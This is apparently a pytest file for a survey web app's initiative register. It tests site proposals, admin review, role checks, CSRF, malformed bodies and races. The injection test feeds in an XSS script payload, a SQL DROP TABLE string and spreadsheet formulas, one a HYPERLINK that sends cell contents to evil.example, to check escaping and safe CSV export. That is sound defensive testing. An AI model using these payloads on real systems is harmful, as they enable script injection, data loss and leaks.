"""The initiative register edited from the dashboards (issue 20): a site proposes new initiatives and
corrections on its register page; an admin accepts, rejects (with a reason) or edits each once; an
accepted entry's source is "site_submission" with who reviewed it and when; nothing a site sends
enters the register unreviewed; every change is recorded and audited. Access across sites and roles,
CSRF, abuse (huge and odd bodies, bad dates) and injection (HTML, SQL, spreadsheet formulas) in-process;
races (one user sending twice at once; two admins accepting one proposal at once) against a real
`joinedup serve` on SQLite and on PostgreSQL. A 500 anywhere fails the test.
"""

import io
import json

import pandas as pd
import pytest
import sqlalchemy as sa
from tests.test_web_feedback import _client, _post, _served, http_login
from tests.test_web_races import _together
from tests.test_web_sites import PASSWORD, _results

from joinedup.process.register import validate_register
from joinedup.process.register_book import RegisterBook
from joinedup.survey.store import SurveyStore
from joinedup.web.app import create_app
from joinedup.web.config import WebSettings

ROW = {"site": "Barnsley", "initiative_id": "barnsley-mdt", "initiative": "Frailty MDT",
       "initiative_type": "community_mdt", "target_groups": "frail_elderly", "model": "medical", "prevention": "no",
       "personalisation": "no", "start_date": "2014-01-01", "end_date": "", "period": "2014-01-01",
       "stage": "planned", "scale": "", "scale_unit": "", "source": "document", "source_ref": "plan 2014"}
NEW = {"kind": "new", "initiative": "Carers' hub", "initiative_type": "care_navigator",
       "target_groups": ["carers", "whole_community"], "model": "social", "prevention": "yes",
       "personalisation": "yes", "start_date": "2015-01-01", "end_date": "", "period": "2015-04-01",
       "stage": "piloting", "scale": "120", "scale_unit": "people"}


def seed(store):
    """The team's register: Barnsley's MDT (two periods) and Leeds' reablement service."""
    rows = [ROW, {**ROW, "period": "2015-01-01", "stage": "piloting", "source": "interview", "source_ref": "R1-03"},
            {**ROW, "site": "Leeds", "initiative_id": "leeds-reab", "initiative": "Reablement",
             "initiative_type": "reablement", "target_groups": "older_people"}]
    book = RegisterBook(store)
    book.import_register(validate_register(pd.DataFrame(rows)), "evaluator", "seed")
    return book


@pytest.fixture
def app(tmp_path):
    app = create_app(WebSettings(store_url=f"sqlite:///{tmp_path / 's.db'}", results=_results(tmp_path / "run")))
    store = app.state.ctx.store
    for user, role, site in (("barnsley", "site", "Barnsley"), ("leeds", "site", "Leeds"), ("nhse", "programme", None),
                             ("evaluator", "admin", None), ("evaluator2", "admin", None)):
        store.add_user(user, PASSWORD, role, site)
    seed(store)
    return app


def _csrf(client, path):
    page = client.get(path)
    assert page.status_code == 200, (path, page.status_code)
    return page.text.split('name="csrf" value="')[1].split('"')[0]


def _propose(client, data, site="Barnsley"):
    csrf = _csrf(client, f"/sites/{site}/register")
    return client.post(f"/sites/{site}/register/proposals", data={"csrf": csrf, **data}, follow_redirects=False)


def _book(app) -> RegisterBook:
    return app.state.ctx.register_book


def test_new_initiative_enters_only_when_accepted_with_source_and_reviewer(app):
    lead = _client(app, "barnsley")
    before = _book(app).entries()
    r = _propose(lead, NEW)
    assert r.status_code == 303 and r.headers["location"] == "/sites/Barnsley/register?sent=1#proposals"
    # self-report never enters the register unreviewed
    pd.testing.assert_frame_equal(_book(app).entries(), before)
    page = lead.get("/sites/Barnsley/register").text
    assert "Waiting for the evaluation team" in page and "Carers&#39; hub" in page
    pid = int(_book(app).proposals()["id"].iloc[-1])
    team = _client(app, "evaluator")
    csrf = _csrf(team, "/register")
    assert f'action="/register/proposals/{pid}/accept"' in team.get("/register").text
    r = team.post(f"/register/proposals/{pid}/accept", data={"csrf": csrf}, follow_redirects=False)
    assert r.status_code == 303
    added = _book(app).entries("Barnsley").query(f"initiative_id == 'barnsley-s{pid}'")
    assert len(added) == 1
    row = added.iloc[0]
    assert (row["source"], row["reviewed_by"], row["source_ref"]) == ("site_submission", "evaluator",
                                                                     f"proposal {pid} by barnsley")
    assert (row["target_groups"], row["stage"], row["scale"], row["period"]) == ("carers;whole_community", "piloting",
                                                                                 "120", "2015-04-01")
    assert pd.Timestamp.now("UTC").tz_localize(None) - row["reviewed_at"] < pd.Timedelta(minutes=5)
    # the typed register counts a reviewed submission as verified; the site sees the decision
    reg = _book(app).register()
    assert bool(reg.rows.set_index("initiative_id").at[f"barnsley-s{pid}", "verified"]) is True
    assert "Accepted by evaluator" in lead.get("/sites/Barnsley/register").text
    changes = _book(app).changes()
    assert set(changes.loc[changes["proposal_id"] == pid, "field"]) >= {"stage", "source", "initiative"}
    audit = app.state.ctx.store.audit_log()
    assert audit["action"].tolist().count("register_proposal") == 1
    assert audit[audit["action"] == "register_proposal_accept"]["actor"].tolist() == ["evaluator"]


def test_correction_of_stage_dates_model_applies_to_the_initiative_and_is_recorded(app):
    lead = _client(app, "barnsley")
    # a correction: stage and scale for a new period, and the start date (an attribute of every row)
    r = _propose(lead, {"kind": "correction", "initiative_id": "barnsley-mdt", "period": "2016-01-01",
                        "stage": "at_scale", "scale": "900", "scale_unit": "people", "start_date": "2013-10-01",
                        "note": "went county-wide"})
    assert r.status_code == 303
    p = _book(app).proposals().iloc[-1]
    # fields left empty keep the register's values (the name, type, targets, model)
    assert (p["initiative"], p["model"], p["target_groups"]) == ("Frailty MDT", "medical", "frail_elderly")
    team = _client(app, "evaluator")
    r = team.post(f"/register/proposals/{p['id']}/accept", data={"csrf": _csrf(team, "/register")}, follow_redirects=False)
    assert r.status_code == 303
    mdt = _book(app).entries().query("initiative_id == 'barnsley-mdt'").set_index("period")
    assert mdt["start_date"].unique().tolist() == ["2013-10-01"]  # every row of the initiative agrees
    assert mdt.loc["2016-01-01", ["stage", "scale", "source", "reviewed_by"]].tolist() == [
        "at_scale", "900", "site_submission", "evaluator"]
    assert mdt.loc["2014-01-01", ["source", "reviewed_by"]].tolist() == ["document", ""]  # its own source kept
    changes = _book(app).changes().query(f"proposal_id == {p['id']} and field == 'start_date'")
    assert sorted(changes["old"]) == ["", "2014-01-01", "2014-01-01"] and set(changes["new"]) == {"2013-10-01"}
    assert validate_register(_book(app).entries()[list(ROW)]).rejects.empty


def test_reject_needs_a_reason_and_edit_accepts_the_reviewers_values(app):
    lead = _client(app, "barnsley")
    _propose(lead, NEW)
    _propose(lead, {**NEW, "initiative": "Second", "stage": "implemented"})
    first, second = _book(app).proposals()["id"].tolist()
    team = _client(app, "evaluator")
    csrf = _csrf(team, "/register")
    for reason in ("", "  ", "a\x00b", "x" * 501):
        assert team.post(f"/register/proposals/{first}/reject", data={"csrf": csrf, "reason": reason}).status_code == 400
    assert team.post(f"/register/proposals/{first}/reject",
                     data={"csrf": csrf, "reason": "no such service in the plans"}).status_code == 200
    edited = {**NEW, "initiative": "Second, renamed", "stage": "planned", "scale": "", "scale_unit": "",
              "reason": "stage per the March board papers"}
    assert team.post(f"/register/proposals/{second}/edit", data={"csrf": csrf, **edited}, follow_redirects=False
                     ).status_code == 303
    p = _book(app).proposals().set_index("id")
    assert p.loc[first, ["decision", "reason", "decided_initiative"]].tolist() == ["reject", "no such service in the plans", ""]
    assert p.loc[second, ["decision", "decided_by"]].tolist() == ["edit", "evaluator"]
    row = _book(app).entries().query(f"initiative_id == 'barnsley-s{second}'").iloc[0]
    assert (row["initiative"], row["stage"], row["scale"]) == ("Second, renamed", "planned", "")
    assert "Not accepted: no such service in the plans" in lead.get("/sites/Barnsley/register").text
    # an edit that breaks the register's rules stores nothing and says why
    _propose(lead, {**NEW, "initiative": "Third"})
    third = int(_book(app).proposals()["id"].iloc[-1])
    r = team.post(f"/register/proposals/{third}/edit", data={"csrf": csrf, **NEW, "end_date": "2010-01-01"})
    assert r.status_code == 400 and "end_date 2010-01-01 is before start_date" in r.text
    assert _book(app).proposals().set_index("id").at[third, "decision"] == ""


def test_roles_and_sites_site_users_touch_only_their_own_register_and_never_review(app):
    lead, leeds, nhse = _client(app, "barnsley"), _client(app, "leeds"), _client(app, "nhse")
    assert lead.get("/sites/Leeds/register").status_code == 404
    assert lead.get("/sites/Nowhere/register").status_code == 404
    # a post to another site's register, even with a valid token, is 404 and stores nothing
    csrf = _csrf(lead, "/sites/Barnsley/register")
    assert lead.post("/sites/Leeds/register/proposals", data={"csrf": csrf, **NEW}).status_code == 404
    # a correction of another site's initiative from one's own site: 404
    r = lead.post("/sites/Barnsley/register/proposals", data={"csrf": csrf, "kind": "correction",
                                                              "initiative_id": "leeds-reab", "stage": "stopped"})
    assert r.status_code == 404
    assert _book(app).proposals().empty
    _propose(leeds, NEW, site="Leeds")
    pid = int(_book(app).proposals()["id"].iloc[-1])
    # site users cannot review, see the team's page or export; the programme role reads but cannot decide
    for client in (lead, leeds):
        assert client.get("/register").status_code == 403
        assert client.get("/register/register.csv").status_code == 403
        assert client.post(f"/register/proposals/{pid}/accept", data={"csrf": csrf}).status_code == 403
    assert nhse.get("/register").status_code == 200
    assert nhse.post(f"/register/proposals/{pid}/accept", data={"csrf": _csrf(nhse, "/register")}).status_code == 403
    assert _book(app).proposals()["decision"].tolist() == [""]
    # no CSRF token: 403; signed out: to the login page
    assert lead.post("/sites/Barnsley/register/proposals", data=NEW).status_code == 403
    team = _client(app, "evaluator")
    assert team.post(f"/register/proposals/{pid}/accept", data={"reason": "x"}).status_code == 403
    anonymous = _client(app, "evaluator")
    anonymous.cookies.clear()
    assert anonymous.get("/sites/Barnsley/register", follow_redirects=False).status_code == 303
    assert anonymous.post(f"/register/proposals/{pid}/accept", data={"reason": "x"}, follow_redirects=False).status_code == 303
    assert _book(app).proposals()["decision"].tolist() == [""]


def test_abuse_huge_odd_bodies_and_bad_values_never_500(app):
    lead = _client(app, "barnsley")
    csrf = _csrf(lead, "/sites/Barnsley/register")
    post = "/sites/Barnsley/register/proposals"
    form = "application/x-www-form-urlencoded"
    base = f"csrf={csrf}&kind=new&initiative=x&initiative_type=reablement&target_groups=carers&model=social" \
           "&start_date=2015-01-01&period=2015-01-01&stage=planned"
    cases = {
        "huge body": ((base + "&note=").encode() + b"a" * 2_000_000, form, 413),
        "invalid UTF-8": ((base + "&note=%FF%FE").encode(), form, 400),
        "raw latin-1 byte": ((base + "&note=").encode() + "é".encode("latin-1"), form, 400),
        "NUL": (base.replace("initiative=x", "initiative=a%00b").encode(), form, 400),
        "JSON": (json.dumps({"csrf": csrf}).encode(), "application/json", 415),
        "multipart": (b"--x\r\n", "multipart/form-data; boundary=x", 415),
        "over 500 characters": (base.replace("initiative=x", "initiative=" + "y" * 501).encode(), form, 400),
        "bad date": (base.replace("start_date=2015-01-01", "start_date=2015-02-30").encode(), form, 400),
        "date words": (base.replace("period=2015-01-01", "period=next%20spring").encode(), form, 400),
        "year 99999": (base.replace("period=2015-01-01", "period=99999-01-01").encode(), form, 400),
        "unknown stage": (base.replace("stage=planned", "stage=finished").encode(), form, 400),
        "unknown target group": (base.replace("target_groups=carers", "target_groups=everyone").encode(), form, 400),
        "negative scale": ((base + "&scale=-5&scale_unit=people").encode(), form, 400),
        "scale 1e400": ((base + "&scale=1e400&scale_unit=people").encode(), form, 400),
        "unknown kind": (base.replace("kind=new", "kind=delete").encode(), form, 400),
        "live before it began": (base.replace("stage=planned", "stage=implemented")
                                 .replace("period=2015-01-01", "period=2014-01-01").encode(), form, 400),
    }
    for name, (body, kind, status) in cases.items():
        r = lead.post(post, content=body, headers={"content-type": kind})
        assert r.status_code == status, (name, r.status_code, r.text[:300])
    r = lead.post(post, content=base.replace("start_date=2015-01-01", "start_date=2015-02-30").encode(),
                  headers={"content-type": form})
    assert "start_date &#39;2015-02-30&#39; is not a date YYYY-MM-DD" in r.text
    assert _book(app).proposals().empty  # nothing was stored
    team = _client(app, "evaluator")
    tcsrf = _csrf(team, "/register")
    assert team.post("/register/proposals/abc/accept", data={"csrf": tcsrf}).status_code == 422
    for pid in ("99999999999999999999", "-1", "0", "12345"):
        assert team.post(f"/register/proposals/{pid}/accept", data={"csrf": tcsrf}).status_code == 404
    assert team.post("/register/proposals/1/delete", data={"csrf": tcsrf}).status_code == 404
    assert team.get("/register/passwords.csv").status_code == 404
    # a date written without leading zeros is one period, stored ISO
    assert lead.post(post, content=(base.replace("period=2015-01-01", "period=2015-4-1")).encode(),
                     headers={"content-type": form}, follow_redirects=False).status_code == 303
    assert _book(app).proposals()["period"].tolist() == ["2015-04-01"]


def test_injection_stored_verbatim_shown_escaped_and_exported_safely(app):
    lead = _client(app, "barnsley")
    names = ['<script>alert("x")</script><img src=x onerror=alert(1)>', "'); DROP TABLE initiative_register; --",
             '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "@SUM(A1:A9)", "-2+3"]
    for name in names:
        assert _propose(lead, {**NEW, "initiative": name, "note": name}).status_code == 303
    team = _client(app, "evaluator")
    csrf = _csrf(team, "/register")
    for pid in _book(app).proposals()["id"]:
        assert team.post(f"/register/proposals/{pid}/accept", data={"csrf": csrf}, follow_redirects=False).status_code == 303
    stored = _book(app).entries().query("source == 'site_submission'")
    assert sorted(stored["initiative"]) == sorted(names)  # the SQL was data; the table is intact
    for page in (lead.get("/sites/Barnsley/register").text, team.get("/register").text):
        assert "<script>alert" not in page and "<img src=x" not in page
        assert "&lt;script&gt;alert(" in page
    exported = pd.read_csv(io.StringIO(team.get("/register/register.csv").text), keep_default_na=False, dtype=str)
    shown = exported.query("source == 'site_submission'")["initiative"].tolist()
    assert sorted(shown) == sorted(names[:2] + ["'" + n for n in names[2:]])
    proposals = pd.read_csv(io.StringIO(team.get("/register/proposals.csv").text), keep_default_na=False, dtype=str)
    assert not proposals["note"].str.startswith(("=", "+", "-", "@")).any()
    changes = team.get("/register/changes.csv")
    assert changes.status_code == 200 and changes.headers["content-type"].startswith("text/csv")


def test_migration_5_adds_the_register_tables_to_a_version_4_database(tmp_path):
    url = f"sqlite:///{tmp_path / 'old.db'}"
    store = SurveyStore(url)
    store.create()
    with store.engine.begin() as c:  # back to version 4: the register's tables did not exist
        for t in ("initiative_register_changes", "register_proposal_decisions", "register_proposals",
                  "initiative_register"):
            c.execute(sa.text(f"DROP TABLE {t}"))
        c.execute(sa.text("UPDATE schema_version SET version = 4"))
    store.engine.dispose()
    again = SurveyStore(url)
    again.create()
    names = set(sa.inspect(again.engine).get_table_names())
    assert {"initiative_register", "register_proposals", "register_proposal_decisions",
            "initiative_register_changes"} <= names
    with again.engine.connect() as c:
        assert c.execute(sa.text("select version from schema_version")).scalar() == 5
    assert seed(again).entries().shape[0] == 3


# -- races against a real server, SQLite and PostgreSQL ------------------------------------------------------

@pytest.fixture(params=["sqlite", "postgresql"])
def served(request, tmp_path, pg_server):
    if request.param == "sqlite":
        url = f"sqlite:///{tmp_path / 'survey.db'}"
    else:
        url = pg_server.create_database(f"r_{tmp_path.name.lower().replace('-', '_')[:40]}")
    store = SurveyStore(url)
    store.create()
    seed(store)
    yield from _served(url, tmp_path)


def test_same_user_sending_twice_at_once_makes_one_proposal_and_two_reviewers_one_decision(served):
    base, cookies, _, store = served
    page = _post_get(base, cookies, "/sites/Barnsley/register")
    csrf = page.split('name="csrf" value="')[1].split('"')[0]
    # the same proposal sent 8 times at the same instant (double clicks, tabs): one proposal
    form = {"csrf": csrf, **NEW}
    sent = _together([lambda: _post(base, cookies, "/sites/Barnsley/register/proposals", form) for _ in range(8)])
    assert [r.status_code for r in sent] == [303] * 8
    # different proposals at the same instant: every one is kept
    sent = _together([lambda i=i: _post(base, cookies, "/sites/Barnsley/register/proposals",
                                        {**form, "initiative": f"scheme {i}"}) for i in range(6)])
    assert [r.status_code for r in sent] == [303] * 6
    book = RegisterBook(store)
    proposals = book.proposals()
    assert sorted(proposals["initiative"]) == sorted(["Carers' hub"] + [f"scheme {i}" for i in range(6)])
    # two admins (and one of them twice) accept the same proposal at once: exactly one wins
    for user in ("evaluator", "evaluator2"):
        store.add_user(user, PASSWORD, "admin")
    teams = []
    for user in ("evaluator", "evaluator2"):
        jar = http_login(base, user)
        teams.append((jar, _post_get(base, jar, "/register").split('name="csrf" value="')[1].split('"')[0]))
    for pid in proposals["id"].tolist()[:3]:
        calls = [lambda jar=jar, tok=tok, pid=pid: _post(base, jar, f"/register/proposals/{pid}/accept", {"csrf": tok})
                 for jar, tok in teams + teams[:1]]
        codes = sorted(r.status_code for r in _together(calls))
        assert codes == [303, 409, 409], (pid, codes)
        assert book.entries().query(f"initiative_id == 'barnsley-s{pid}'").shape[0] == 1
    decided = book.proposals().query("decision != ''")
    assert len(decided) == 3
    audit = store.audit_log()
    assert (audit["action"] == "register_proposal_accept").sum() == 3


def _post_get(base, cookies, path):
    import httpx

    r = httpx.get(base + path, cookies=cookies, timeout=60)
    assert r.status_code == 200, (path, r.status_code, r.text[:300])
    return r.text


def test_admin_loads_the_teams_register_file_with_rejects_listed(app, tmp_path):
    from joinedup.process.register_io import write_register

    good = validate_register(pd.DataFrame([
        {**ROW, "site": "Leeds", "initiative_id": "leeds-hub", "initiative": "=HYPERLINK(\"http://x\")",
         "initiative_type": "care_navigator", "target_groups": "carers", "period": "2016-01-01", "stage": "implemented",
         "scale": "40", "scale_unit": "practices"}])).rows
    path = tmp_path / "team.csv"
    write_register(good, path)
    text = path.read_text() + "Leeds,leeds-bad,X,reablement,carers,social,no,no,2015-02-30,,2015-01-01,planned,,,document,\n"
    team = _client(app, "evaluator")
    csrf = _csrf(team, "/register")
    r = team.post("/register/import", data={"csrf": csrf}, files={"file": ("team.csv", text.encode(), "text/csv")})
    assert r.status_code == 422  # loaded, with a rejected row listed
    assert "team.csv: 1 rows loaded" in r.text and "1 rejected" in r.text
    assert "start_date &#39;2015-02-30&#39; is not a date YYYY-MM-DD" in r.text
    stored = _book(app).entries().set_index("initiative_id")
    assert "leeds-bad" not in stored.index
    assert stored.loc["leeds-hub", ["stage", "scale", "source", "reviewed_by"]].tolist() == [
        "implemented", "40", "document", ""]
    assert set(_book(app).changes().query("initiative_id == 'leeds-hub'")["how"]) == {"team.csv"}
    exported = pd.read_csv(io.StringIO(team.get("/register/register.csv").text), keep_default_na=False, dtype=str)
    assert exported.query("initiative_id == 'leeds-hub'")["initiative"].tolist() == ["'=HYPERLINK(\"http://x\")"]
    # an Excel file round-trips the same way
    write_register(good.assign(stage="at_scale"), tmp_path / "team.xlsx")
    r = team.post("/register/import", data={"csrf": csrf},
                  files={"file": ("team.xlsx", (tmp_path / "team.xlsx").read_bytes(), "application/octet-stream")})
    assert r.status_code == 200 and "1 rows loaded (1 cells changed), 0 rejected" in r.text, r.text.split("role=\"status\">")[1][:200]
    # refused: other roles, no token, not a file, wrong type, damaged workbook, missing columns
    site = _client(app, "barnsley")
    assert site.post("/register/import", data={"csrf": _csrf(site, "/sites/Barnsley/register")},
                     files={"file": ("x.csv", text.encode())}).status_code == 403
    cases = [({"csrf": "wrong"}, {"file": ("x.csv", text.encode())}, 403, "CSRF"),
             ({"csrf": csrf}, {"file": ("x.txt", b"a,b\n")}, 400, "not a .csv or .xlsx"),
             ({"csrf": csrf}, {"file": ("x.xlsx", b"PK\x03\x04 not a workbook")}, 400, "not a readable register"),
             ({"csrf": csrf}, {"file": ("x.csv", b"site,initiative_id\nA,a1\n")}, 400, "missing column(s)"),
             ({"csrf": csrf}, {"file": ("x.csv", b"\xff\xfe\x00garbage")}, 400, "not a readable register")]
    for data, files, status, words in cases:
        r = team.post("/register/import", data=data, files=files)
        assert r.status_code == status and words in r.text, (files, r.status_code, r.text[-400:])
    long_ref = text.replace("plan 2014", "p" * 600, 1)
    r = team.post("/register/import", data={"csrf": csrf}, files={"file": ("long.csv", long_ref.encode())})
    assert r.status_code == 400 and "source_ref of &#39;leeds-hub&#39; (2016-01-01) has 600 characters" in r.text
    assert team.post("/register/import", data={"csrf": csrf}).status_code == 415
    big = team.post("/register/import", data={"csrf": csrf}, files={"file": ("big.csv", b"a" * (17 << 20))})
    assert big.status_code == 413
    r = team.post("/register/import", content=b"--b\r\nbroken", headers={"content-type": "multipart/form-data; boundary=b"})
    assert r.status_code in (400, 403), r.status_code
    assert _book(app).entries().query("initiative_id == 'leeds-hub'")["stage"].tolist() == ["at_scale"]
